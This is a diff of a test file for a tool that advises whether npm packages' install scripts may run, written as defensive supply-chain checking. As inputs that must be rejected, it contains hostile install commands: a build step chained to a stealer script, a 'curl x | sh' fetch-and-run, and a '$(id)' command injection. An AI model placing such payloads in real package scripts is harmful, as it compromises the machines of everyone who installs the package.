@@ -32,23 +32,38 @@ describe('scriptAdvice', () => {
     expect(scriptAdvice(result({ scripts: [['prepare', 'tshy']] }))).toBeUndefined();
   });
 
-  it('allows native builds and binaries the package downloads', () => {
+  it('allows native builds (whole commands only) and native binaries the package downloads', () => {
     expect(
       scriptAdvice(result({ scripts: [['install', 'prebuild-install || node-gyp rebuild']] })),
     ).toMatchObject({
       recommendation: 'allow',
     });
+    expect(scriptAdvice(result({ scripts: [['install', 'node-gyp-build']] }))).toMatchObject({
+      recommendation: 'allow',
+    });
+    // A build command with a payload after it is not a build.
+    for (const command of [
+      'node-gyp rebuild; node steal.js',
+      'node-gyp rebuild && curl x | sh',
+      'prebuild-install $(id)',
+    ])
+      expect(scriptAdvice(result({ scripts: [['install', command]] }))?.recommendation).not.toBe('allow');
     const download = result({ scripts: [['postinstall', 'node install.js']] });
-    download.install_time = {
-      ...download.install_time!,
-      makes_requests: true,
-      domains: ['dl.example'],
-      spawns_children: true,
-    };
+    download.install_time = { ...download.install_time!, makes_requests: true, domains: ['dl.example'] };
+    download.capabilities = { native: { has_native: true, native_modules: ['bin/tool'] } };
     expect(scriptAdvice(download)).toMatchObject({
       recommendation: 'allow',
       reason: expect.stringContaining('dl.example'),
     });
+    // Fetching and starting programs without native code is a dropper's shape: review, never allow.
+    const dropper = result({ scripts: [['postinstall', 'node install.js']] });
+    dropper.install_time = {
+      ...dropper.install_time!,
+      makes_requests: true,
+      spawns_children: true,
+      domains: ['x.example'],
+    };
+    expect(scriptAdvice(dropper)).toMatchObject({ recommendation: 'review' });
   });
 
   it('skips banners and dev tooling, and scripts whose code does nothing the scan could see', () => {
